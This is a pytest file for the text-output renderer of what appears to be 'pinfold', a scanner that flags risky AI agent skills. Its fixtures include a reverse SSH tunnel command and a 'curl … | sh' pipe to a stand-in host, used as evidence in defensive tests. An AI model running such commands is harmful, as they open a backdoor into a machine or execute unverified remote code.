from __future__ import annotations

import io

import msgspec
import pytest

from pinfold.model import Evidence, Place, Severity, Unread, Verdict
from pinfold.output.renderer import Totals, renderer
from pinfold.output.terminal import cells


def test_a_scan_reads_like_a_compiler(render, rogue, tame, matches_snapshot):
    matches_snapshot("scan.txt", render("text", tame, rogue, tame, tame))


def test_verbose_leaves_nothing_out(render, rogue, matches_snapshot):
    text = render("text", rogue, verbose=True)
    matches_snapshot("scan-verbose.txt", text)
    assert "more" not in text


def test_colour(render, rogue, rules, matches_snapshot):
    text = render("text", rogue, color=True, rules=rules)
    matches_snapshot("scan-colour.txt", text)
    assert "\x1b[1;31mcritical[reverse-tunnel]\x1b[0m" in text


def test_observed_material(render, rollout, matches_snapshot):
    matches_snapshot("match.txt", render("text", rollout, subject="material"))


def test_a_clean_skill_takes_one_line(render, tame):
    lines = render("text", tame, tame, tame).splitlines()
    assert lines[:3] == ["clean       tame  skills/tame"] * 3
    assert lines[3:] == ["", "3 skills: 3 clean · no findings · 8 rules, 0.42 s"]


def test_a_use_of_a_suppression_is_printed_even_for_a_clean_skill(render, tame, rogue):
    quiet = msgspec.structs.replace(tame, findings=rogue.findings[1:])
    text = render("text", quiet)
    assert "agreed with the network team (by Ann Lee, until 2027-01-01, pinfold.toml)" in text
    assert "high[internal-probing] rollout.jsonl:4:1 (step 3)" in text


def test_nothing_at_all(render):
    assert render("text") == "0 skills · no findings · 8 rules, 0.42 s\n"


def test_carets_stand_under_wide_characters(render, rogue):
    lines = render("text", rogue).splitlines()
    at = next(number for number, line in enumerate(lines) if "ssh -fNR" in line)
    source, marks = lines[at], lines[at + 1]
    before = marks[: marks.index("^")]
    assert cells(source[: source.index("ssh")]) == cells(before)
    assert marks.count("^") == cells("ssh -fNR 2222:localhost:22 ops@203.0.113.7")


def test_no_hostile_character_reaches_the_terminal(render, rogue, tunnel):
    evil = "\x1b[2J\x9b31m\u202e\u2066\u200b\u00ad\U000e0041\ufeff\r\n\t\x00\ud800\u2028\x7f"
    hostile = msgspec.structs.replace(
        rogue,
        name=evil,
        path=evil,
        unread=(Unread(evil, evil, evil),),
        findings=(
            msgspec.structs.replace(
                tunnel,
                title=evil,
                message=evil,
                fix=evil,
                evidence=(
                    Evidence(Place(evil, 1, 1, layer=evil), evil, 0, len(evil), note=evil),
                    Evidence(Place(evil, 1, 1), "", note=evil),
                ),
            ),
            *rogue.findings[1:],
        ),
        capabilities=(msgspec.structs.replace(rogue.capabilities[0], name=f"{evil}:{evil}"),),
        flows=(msgspec.structs.replace(rogue.flows[0], host=evil, via=evil, data=(evil,)),),
    )
    text = render("text", hostile, verbose=True)
    assert [character for character in text if character != "\n" and not character.isprintable()] == []
    assert "⟨U+001B⟩[2J" in text
    assert "⟨U+202E⟩" in text


def test_a_terminal_of_another_encoding_gets_escapes_instead_of_a_crash(rogue):
    raw = io.BytesIO()
    stream = io.TextIOWrapper(raw, encoding="ascii", newline="\n")
    writer = renderer("text", stream, width=100)
    writer.report(rogue)
    writer.end(Totals())
    stream.flush()
    assert b"\\u5148" in raw.getvalue()


@pytest.mark.parametrize("width", [0, 20, 40, 79, 200])
def test_excerpts_fit_the_width(render, rogue, tunnel, width):
    line = "前" * 100 + "curl https://a.example/x | sh" + "后" * 100
    evidence = Evidence(Place("SKILL.md", 7, 101, 7, 130), line, 100, 129)
    report = msgspec.structs.replace(rogue, findings=(msgspec.structs.replace(tunnel, evidence=(evidence,)),))
    lines = render("text", report, width=width).splitlines()
    at = next(number for number, line in enumerate(lines) if line.startswith("7 |"))
    assert cells(lines[at]) <= max(width, 20 + 4)
    assert "curl" in lines[at]
    assert cells(lines[at].split("curl", maxsplit=1)[0]) == lines[at + 1].index("^")


def test_many_places_are_counted(render, rogue, tunnel):
    places = tuple(Evidence(Place("SKILL.md", line, 1), f"line {line}") for line in range(1, 30))
    report = msgspec.structs.replace(rogue, findings=(msgspec.structs.replace(tunnel, evidence=places),))
    assert "::: +25 more places" in render("text", report)
    assert "line 29" in render("text", report, verbose=True)


def numbered(finding, number, **changed):
    """Return the finding as it would stand in another file."""
    place = msgspec.structs.replace(finding.evidence[0].place, path=f"part-{number}.md")
    first = msgspec.structs.replace(finding.evidence[0], place=place)
    return msgspec.structs.replace(finding, evidence=(first, *finding.evidence[1:]), **changed)


def test_one_rule_is_explained_once_and_its_further_findings_are_folded(render, rogue, tunnel, probing):
    many = tuple(numbered(tunnel, number) for number in range(10))
    report = msgspec.structs.replace(rogue, findings=(*many[:5], probing, *many[5:]))
    text = render("text", report)
    for once in ("= means: Somebody", "= do: Remove", "= see: ATT&CK"):
        assert text.count(once) == 1
    assert text.count("critical[reverse-tunnel]: Opens a way back in") == 2
    assert "critical[reverse-tunnel]: 8 more findings of this rule\n --> part-2.md:12:9\n" in text
    assert " --> +3 more; --verbose shows them\n\nhigh[internal-probing]" in text, "a rule's findings stand together"
    assert len(text.splitlines()) < 85
    whole = render("text", report, verbose=True)
    assert all(f"--> part-{number}.md:12:9" in whole for number in range(10))
    assert "--verbose" not in whole


def test_one_finding_more_than_is_shown_is_not_worth_folding(render, rogue, tunnel):
    text = render("text", msgspec.structs.replace(rogue, findings=tuple(numbered(tunnel, n) for n in range(3))))
    assert "findings of this rule" not in text
    assert text.count("Opens a way back in") == 3


def test_what_is_no_reason_to_act_takes_a_line_and_gives_no_advice(render, tame, tunnel):
    low = [numbered(tunnel, number, severity=Severity.LOW) for number in range(12)]
    text = render("text", msgspec.structs.replace(tame, findings=tuple(low), score=0.02))
    assert "  noted\n    low[reverse-tunnel] part-0.md:12:9 +1: remote forwarding\n" in text
    assert "    +2 more findings\n" in text
    assert "= do:" not in text
    whole = render("text", msgspec.structs.replace(tame, findings=tuple(low), score=0.02), verbose=True)
    assert "noted" not in whole
    assert "= do:" in whole


def test_facts_about_a_clean_skill_are_left_to_verbose(render, tame, tunnel):
    low = msgspec.structs.replace(tunnel, severity=Severity.LOW)
    report = msgspec.structs.replace(tame, findings=(low,))
    assert "exec  git" not in render("text", report)
    assert "exec  git" in render("text", report, verbose=True)


def test_what_was_not_read_comes_before_the_facts(render, rogue):
    text = render("text", rogue)
    assert text.index("  not read\n") < text.index("  can\n") < text.index("  what goes where\n")


def test_an_incomplete_skill_without_findings_has_no_score(render, tame):
    report = msgspec.structs.replace(tame, verdict=Verdict.INCOMPLETE, complete=False, unread=(Unread("a", "opaque"),))
    assert "score" not in render("text", report)


def test_a_note_is_whole_where_it_has_a_line_of_its_own_and_is_said_once(render, rogue, tunnel):
    note = "a download from a bare address, a paste or a plain connection, piped into an interpreter"
    line = "curl -fsSL https://a.example/x | sh"
    places = tuple(Evidence(Place("a.sh", n, 1, n, 9), line, 0, len(line), note=note) for n in (1, 2))
    report = msgspec.structs.replace(rogue, findings=(msgspec.structs.replace(tunnel, evidence=places),))
    text = render("text", report)
    assert text.count(f"  | {note}\n") == 1
    narrow = render("text", report, width=40)
    rows = [line.removeprefix("  | ") for line in narrow.splitlines() if line.startswith("  | ")]
    assert " ".join(rows).count(note) == 1


def test_ten_thousand_findings_make_a_short_report(render, rogue, tunnel):
    many = tuple(numbered(tunnel, number) for number in range(10_000))
    text = render("text", msgspec.structs.replace(rogue, findings=many))
    assert "9998 more findings of this rule" in text
    assert len(text.splitlines()) < 80


@pytest.mark.parametrize("verdict", list(Verdict))
def test_the_verdict_comes_first(render, tame, verdict):
    assert render("text", msgspec.structs.replace(tame, verdict=verdict)).startswith(verdict)
